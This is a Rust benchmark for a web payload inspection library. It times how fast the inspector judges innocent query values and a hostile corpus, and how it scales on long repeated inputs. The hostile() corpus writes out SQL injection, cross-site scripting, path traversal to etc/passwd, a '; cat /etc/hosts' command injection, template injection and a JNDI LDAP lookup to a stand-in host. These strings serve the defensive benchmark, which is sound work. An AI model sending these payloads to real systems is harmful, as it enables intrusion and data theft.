//! How many values a second payload inspection looks at, and whether its time grows in proportion.
//!
//! `cargo bench -p security-web --bench inspect` runs over corpora made here. With `-- FILE` it takes each line of
//! the file as a value and says how many are refused, and shows the first of them with `-- FILE show`.
#![allow(clippy::print_stdout, clippy::unwrap_used, reason = "a benchmark talks, and stops at a surprise")]

use std::{fs, hint::black_box, time::Instant};

use security_web::{InspectionPolicy, RequestView, inspect};

fn main() {
    let arguments: Vec<String> = std::env::args().skip(1).filter(|argument| argument != "--bench").collect();
    if let Some(file) = arguments.first() {
        return judge_file(file, arguments.len() > 1);
    }
    let innocent = innocent();
    let hostile = hostile();
    println!("corpus             values/s      MB/s   refused");
    for (name, values) in [("innocent", &innocent), ("hostile", &hostile)] {
        rate(name, values, 200);
    }
    println!("\nns a byte, by size of one value      4 KiB   16 KiB   64 KiB  256 KiB");
    for (name, unit) in GENERATORS {
        let figures: Vec<String> = [4usize, 16, 64, 256]
            .iter()
            .map(|size| {
                let value: String = unit.chars().cycle().take(size << 10).collect();
                let started = Instant::now();
                let mut n_runs = 0u32;
                while n_runs < 3 || started.elapsed().as_millis() < 30 {
                    black_box(refused_as_body(value.as_bytes()));
                    n_runs += 1;
                }
                let each = started.elapsed().as_secs_f64() / f64::from(n_runs);
                format!("{:8.2}", each * 1e9 / value.len() as f64)
            })
            .collect();
        println!("{name:34} {}", figures.join(" "));
    }
}

/// One value repeated until it is long: what is meant to be slow.
const GENERATORS: [(&str, &str); 23] = [
    ("words", "a quiet sentence about nothing "),
    ("quotes", "'"),
    ("double quotes", "\""),
    ("backslashes", "\\"),
    ("open comments", "/*"),
    ("comments", "/**/"),
    ("executed comments", "/*!"),
    ("open tags", "<"),
    ("comments of HTML", "<!--"),
    ("CDATA", "<![CDATA["),
    ("percent", "%"),
    ("percent percent", "%25"),
    ("references", "&#0000000000000000"),
    ("parents", "../"),
    ("braces", "{{"),
    ("open templates", "{{a(("),
    ("look-ups", "${"),
    ("or 1", " or 1"),
    ("semicolons", "; "),
    ("commands", "|c'a't "),
    ("brackets", "("),
    ("dollars", "$a$"),
    ("on", " on"),
];

fn refused_as_body(value: &[u8]) -> bool {
    let headers = [("content-type", &b"text/plain"[..])];
    let request = RequestView { path: "/", headers: &headers, body: Some(value), ..RequestView::default() };
    inspect(&InspectionPolicy { max_bytes: 1 << 20, ..InspectionPolicy::default() }, &request).is_denied
}

fn refused(query: &str) -> bool {
    inspect(&InspectionPolicy::default(), &RequestView { path: "/", query, ..RequestView::default() })
        .is_denied
}

/// Each value alone, as a request would bring it.
fn rate(name: &str, values: &[String], n_rounds: usize) {
    let bytes: usize = values.iter().map(String::len).sum();
    let refused_ones = values.iter().filter(|value| refused(value)).count();
    let started = Instant::now();
    for _ in 0..n_rounds {
        for value in values {
            black_box(refused(value));
        }
    }
    let seconds = started.elapsed().as_secs_f64();
    let per_second = (values.len() * n_rounds) as f64 / seconds;
    let megabytes = (bytes * n_rounds) as f64 / seconds / 1e6;
    println!("{name:12} {per_second:14.0} {megabytes:9.1} {refused_ones:5} of {}", values.len());
}

fn judge_file(file: &str, shows: bool) {
    let text = fs::read(file).unwrap();
    let values: Vec<String> = text
        .split(|byte| *byte == b'\n')
        .filter(|line| !line.trim_ascii().is_empty())
        .map(|line| format!("q={}", encoded(&String::from_utf8_lossy(line))))
        .collect();
    let mut n_refused = 0;
    for value in &values {
        let request = RequestView { path: "/", query: value, ..RequestView::default() };
        let found = inspect(&InspectionPolicy::default(), &request);
        if found.is_denied {
            n_refused += 1;
        }
        if shows && found.is_denied && n_refused <= 200 {
            let ids: Vec<&str> = found.reasons.iter().map(|reason| reason.id.as_ref()).collect();
            println!("{} {}", ids.join(","), found.reasons[0].evidence);
        }
    }
    println!("{n_refused} of {} refused", values.len());
    rate("file", &values, 3);
}

fn encoded(text: &str) -> String {
    let mut out = String::from("q=");
    for byte in text.bytes() {
        match byte {
            b'a'..=b'z' | b'A'..=b'Z' | b'0'..=b'9' | b'-' | b'_' | b'.' => out.push(char::from(byte)),
            b' ' => out.push('+'),
            _ => out.push_str(&format!("%{byte:02X}")),
        }
    }
    out.split_off(2)
}

fn innocent() -> Vec<String> {
    let mut values = Vec::new();
    for n in 0..500 {
        values.extend([
            format!("id={}", n * 7919),
            format!("q={}", encoded(&format!("a plan for number {n}"))),
            format!("email=user{n}%40example.com"),
            format!("name=O%27Brien+{n}"),
            format!("next=https%3A%2F%2Fexample.com%2Fpage%2F{n}%3Fa%3Db"),
            format!("token={:032x}", u128::from(n as u64 + 1) * 0x1234_5678_9abc_def0_1234_5678),
            format!("date=2024-01-{:02}T12%3A00%3A00Z", n % 28 + 1),
            format!("text={}", encoded(&format!("It's {n} o'clock; shall we meet (or not) at the corner?"))),
        ]);
    }
    values
}

fn hostile() -> Vec<String> {
    let mut values = Vec::new();
    for n in 0..500 {
        for attack in [
            format!("{n}' or '{n}'='{n}"),
            format!("{n} union select {n},2,3--"),
            format!("<script>alert({n})</script>"),
            format!("<img src={n} onerror=alert({n})>"),
            "../".repeat(n % 8 + 2) + "etc/passwd",
            format!("; cat /etc/hosts{n}"),
            format!("{{{{{n}*7}}}}"),
            format!("${{jndi:ldap://x{n}.example/a}}"),
        ] {
            values.push(format!("q={}", encoded(&attack)));
        }
    }
    values
}
